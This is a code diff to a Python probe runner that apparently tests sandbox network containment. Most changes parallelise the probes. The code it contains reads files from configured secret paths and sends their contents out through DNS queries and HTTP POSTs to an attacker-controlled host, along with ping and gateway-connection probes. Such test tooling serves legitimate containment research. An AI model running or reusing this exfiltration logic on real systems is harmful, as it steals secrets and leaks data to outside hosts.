@@ -130,9 +130,9 @@ class Agent:
         for i, chunk in enumerate(chunks):
             name = f"{chunk}.{i}.{label}.{self.token}.{attacker}"
             jobs.append(lambda n=name: self.dns(probe, n))
-        for host in self.cfg["hosts"] + [f"{self.token}{label.replace('-', '')}.{attacker}"]:
+        for host in self.cfg["hosts"] + [f"{self.token}{label}.{attacker}"]:
             jobs.append(lambda h=host: self.http(probe, "POST", f"https://{h}/upload/{tag}", data))
-        with ThreadPoolExecutor(max_workers=8) as pool:
+        with ThreadPoolExecutor(max_workers=32) as pool:
             list(pool.map(lambda f: f(), jobs))
 
     # --- probes --------------------------------------------------------------------------
@@ -157,16 +157,23 @@ class Agent:
         elif pid == "net-attacker-domain":
             self.http(pid, "GET", f"http://{self.cfg['attacker_host']}/ping/{self.token}")
         elif pid == "net-host-gateway":
-            for host in gateways() + self.cfg.get("gateway_names", []):
-                self.tcp(pid, host, self.cfg["host_port"], f"{self.token}.host\n".encode())
+            payload = f"{self.token}.host\n".encode()
+            hosts = gateways() + self.cfg.get("gateway_names", [])
+            with ThreadPoolExecutor(max_workers=len(hosts)) as pool:
+                list(pool.map(lambda h: self.tcp(pid, h, self.cfg["host_port"], payload), hosts))
         elif pid == "exfil-via-allowed-domain":
-            for host in self.cfg["hosts"] + [f"{self.token}up.{self.cfg['attacker_host']}"]:
-                self.http(pid, "POST", f"https://{host}/upload/{self.token}", f"upload {self.token}".encode())
+            hosts = self.cfg["hosts"] + [f"{self.token}up.{self.cfg['attacker_host']}"]
+            body = f"upload {self.token}".encode()
+            with ThreadPoolExecutor(max_workers=len(hosts)) as pool:
+                list(pool.map(lambda h: self.http(pid, "POST", f"https://{h}/upload/{self.token}", body), hosts))
         elif pid == "exfil-secret":
-            for i, path in enumerate(self.cfg["secret_paths"]):
-                data = self.read(pid, path)
+            def steal(i_path):
+                data = self.read(pid, i_path[1])
                 if data:
-                    self.send_everywhere(pid, f"s{i}", data.strip()[:200])
+                    self.send_everywhere(pid, f"s{i_path[0]}", data.strip()[:200])
+            paths = list(enumerate(self.cfg["secret_paths"]))
+            with ThreadPoolExecutor(max_workers=len(paths)) as pool:
+                list(pool.map(steal, paths))
         else:
             emit(pid, "unknown", False, "no such probe in this runner")
         emit(pid, "done", True)
@@ -191,7 +198,7 @@ def main():
         cfg = json.load(fh)
     agent = Agent(cfg)
     emit("runner", "start", True, f"uid={os.getuid()}")
-    with ThreadPoolExecutor(max_workers=int(cfg.get("parallel", 8))) as pool:
+    with ThreadPoolExecutor(max_workers=int(cfg.get("parallel", 24))) as pool:
         futures = [pool.submit(agent.run, spec) for spec in cfg["probes"]]
         for f in futures:
             try:
